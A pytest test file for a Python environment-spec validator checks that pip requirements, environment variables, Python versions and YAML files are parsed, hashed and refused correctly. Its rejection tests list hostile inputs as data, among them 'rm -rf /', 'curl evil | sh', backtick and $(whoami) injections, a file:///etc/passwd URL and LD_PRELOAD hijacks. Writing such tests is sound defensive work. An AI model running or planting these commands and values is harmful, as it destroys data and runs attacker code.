"""Environment specs: what a user may write, how it hashes, and how requirements/YAML files read."""

from __future__ import annotations

import sys

import pytest

from ember.environments import (
    EnvironmentSpec,
    parse_environment_yaml,
    parse_requirements_file,
    pin_python,
    spec_hash,
)
from ember.errors import InvalidInput


@pytest.mark.parametrize(
    "requirement",
    [
        "six==1.16.0",
        "idna>=3,<4",
        "requests[socks,security]~=2.31",
        'tomli; python_version < "3.11"',
        "pkg @ https://files.example.org/pkg-1.0-py3-none-any.whl#sha256=abc",
        "  padded==1.0  ",
    ],
)
def test_valid_requirements_are_kept(requirement: str) -> None:
    spec = EnvironmentSpec(pip=(requirement,))
    assert spec.pip == (requirement.strip(),)


@pytest.mark.parametrize(
    ("requirement", "says"),
    [
        ("--index-url x", "installer option"),
        ("--extra-index-url=https://evil.example", "installer option"),
        ("-r other.txt", "installer option"),
        ("-e .", "installer option"),
        ("pkg; rm -rf /", "not a valid requirement"),
        ("six==1.16.0 && curl evil | sh", "not allowed"),
        ("six==1.16.0 `id`", "not allowed"),
        ("$(whoami)", "not allowed"),
        ("six\n--index-url x", "not allowed"),
        ("./local/dir", "not a valid requirement"),
        ("pkg-1.0-py3-none-any.whl", "local file"),
        ("pkg @ http://insecure.example/pkg.whl", "only https://"),
        ("pkg @ file:///etc/passwd", "only https://"),
        ("pkg @ git+https://github.com/x/y", "only https://"),
        ("https://example.org/pkg.whl", "not a valid requirement"),
        ("", "empty"),
    ],
)
def test_anything_but_a_requirement_is_refused(requirement: str, says: str) -> None:
    with pytest.raises(InvalidInput, match=says):
        EnvironmentSpec(pip=("six==1.16.0", requirement))


@pytest.mark.parametrize(
    ("env_vars", "says"),
    [
        ({"1ABC": "x"}, "invalid"),
        ({"MY-VAR": "x"}, "invalid"),
        ({"": "x"}, "invalid"),
        ({"A\n": "x"}, "invalid"),
        ({"PATH": "/evil"}, "reserved"),
        ({"PYTHONPATH": "/evil"}, "reserved"),
        ({"EMBER_RUN_ID": "x"}, "reserved"),
        ({"LD_PRELOAD": "/evil.so"}, "reserved"),
        ({"ld_library_path": "/evil"}, "reserved"),
        ({"OK": "nul\x00byte"}, "NUL"),
    ],
)
def test_bad_environment_variables_are_refused(env_vars: dict[str, str], says: str) -> None:
    with pytest.raises(InvalidInput, match=says):
        EnvironmentSpec(env_vars=env_vars)


def test_good_environment_variables_and_python_versions_are_accepted() -> None:
    spec = EnvironmentSpec(python="3.11.7", env_vars={"_X1": "a\nb $c", "OMP_NUM_THREADS": "4"})
    assert spec.python == "3.11.7"
    assert spec.env_vars["_X1"] == "a\nb $c"


@pytest.mark.parametrize("python", ["2.7", "3", "3.1", "python3.11", "3.11; rm", "latest"])
def test_bad_python_versions_are_refused(python: str) -> None:
    with pytest.raises(InvalidInput, match="python version"):
        EnvironmentSpec(python=python)


def test_wrong_types_and_unknown_fields_become_invalid_input() -> None:
    with pytest.raises(InvalidInput, match="pip"):
        EnvironmentSpec.model_validate({"pip": 5})
    with pytest.raises(InvalidInput, match="conda"):
        EnvironmentSpec.model_validate({"conda": ["numpy"]})


def test_spec_is_frozen() -> None:
    spec = EnvironmentSpec(pip=("six==1.16.0",))
    with pytest.raises(Exception, match="frozen"):
        spec.pip = ()  # type: ignore[misc]


def test_same_spec_gives_the_same_hash_whatever_the_order() -> None:
    a = EnvironmentSpec(python="3.11", pip=("six==1.16.0", "idna>=3"), env_vars={"A": "1", "B": "2"})
    b = EnvironmentSpec(python="3.11", pip=("IDNA >= 3", "Six==1.16.0"), env_vars={"B": "2", "A": "1"})
    assert spec_hash(a) == spec_hash(b)
    assert spec_hash(a) == spec_hash(EnvironmentSpec.model_validate_json(a.model_dump_json()))
    assert len(spec_hash(a)) == 64
    int(spec_hash(a), 16)


def test_hash_changes_with_every_part_of_the_spec() -> None:
    base = EnvironmentSpec(python="3.11", pip=("six==1.16.0",), env_vars={"A": "1"})
    variants = [
        base.model_copy(update={"python": "3.12"}),
        base.model_copy(update={"pip": ("six==1.17.0",)}),
        base.model_copy(update={"pip": ("six==1.16.0", "idna")}),
        base.model_copy(update={"env_vars": {"A": "2"}}),
        base.model_copy(update={"env_vars": {"B": "1"}}),
        base.model_copy(update={"inherit_current": True}),
        base.model_copy(update={"python": None}),
    ]
    hashes = {spec_hash(v) for v in variants}
    assert len(hashes) == len(variants)
    assert spec_hash(base) not in hashes


def test_pin_python_fills_in_the_current_interpreter() -> None:
    pinned = pin_python(EnvironmentSpec(pip=("six",)))
    assert pinned.python == f"{sys.version_info.major}.{sys.version_info.minor}"
    explicit = EnvironmentSpec(python="3.12")
    assert pin_python(explicit) is explicit


def test_requirements_file_skips_comments_and_blanks() -> None:
    text = (
        "# training deps\n"
        "\n"
        "six==1.16.0  # pinned for the old API\n"
        "   idna>=3\n"
        "pkg @ https://example.org/pkg-1.0-py3-none-any.whl#sha256=abc\n"
        "numpy>=1.26,\\\n"
        "   <2\n"
        "\t# indented comment\n"
    )
    assert parse_requirements_file(text) == (
        "six==1.16.0",
        "idna>=3",
        "pkg @ https://example.org/pkg-1.0-py3-none-any.whl#sha256=abc",
        "numpy>=1.26,   <2",
    )
    assert parse_requirements_file("") == ()


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("six==1.16.0\n-r other.txt\n", 2),
        ("# c\n\n--index-url https://evil.example/simple\nsix\n", 3),
        ("six\nidna\n-e git+https://github.com/x/y#egg=y\n", 3),
        ("six==1.16.0 --hash=sha256:abc\n", 1),
        ("six\n\n\nnot a requirement!\n", 4),
        ("six\nfoo; rm -rf /\n", 2),
    ],
)
def test_requirements_file_refuses_options_naming_the_line(text: str, line: int) -> None:
    with pytest.raises(InvalidInput, match=f"requirements line {line}:"):
        parse_requirements_file(text)


def test_ember_style_yaml() -> None:
    name, spec = parse_environment_yaml(
        """
name: train-env
python: "3.11"
pip:
  - six==1.16.0
  - idna>=3
env_vars:
  MODE: fast
  THREADS: 4
  DEBUG: false
"""
    )
    assert name == "train-env"
    assert spec == EnvironmentSpec(
        python="3.11",
        pip=("six==1.16.0", "idna>=3"),
        env_vars={"MODE": "fast", "THREADS": "4", "DEBUG": "false"},
    )


def test_conda_style_yaml() -> None:
    name, spec = parse_environment_yaml(
        """
name: conda-env
channels: [conda-forge]
dependencies:
  - python=3.11
  - pip
  - pip:
    - six==1.16.0
    - idna
variables:
  MODE: slow
"""
    )
    assert name == "conda-env"
    assert spec == EnvironmentSpec(python="3.11", pip=("six==1.16.0", "idna"), env_vars={"MODE": "slow"})


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("pip: [six]\n", "name"),
        ("name: x\npython: 3.10\n", "quoted string"),
        ("name: x\ndependencies: [python=3.11, numpy=1.26]\n", "move it into the 'pip:' list"),
        ("name: x\ndependencies: [python>=3.10]\n", "pin one version"),
        ("name: x\npython: '3.11'\ndependencies: [python=3.12]\n", "two Python versions"),
        ("name: x\npip: ['--index-url x']\n", "installer option"),
        ("name: x\npip: six\n", "list of requirement strings"),
        ("name: x\nenv_vars: {PATH: /evil}\n", "reserved"),
        ("name: x\nconda: true\n", "unknown keys"),
        ("name: [unclosed\n", "not valid YAML"),
        ("- just\n- a list\n", "mapping"),
        ("name: 'bad name!'\n", "name"),
        ('name: "trailing\\n"\n', "name"),
    ],
)
def test_bad_yaml_is_refused(text: str, says: str) -> None:
    with pytest.raises(InvalidInput, match=says):
        parse_environment_yaml(text)
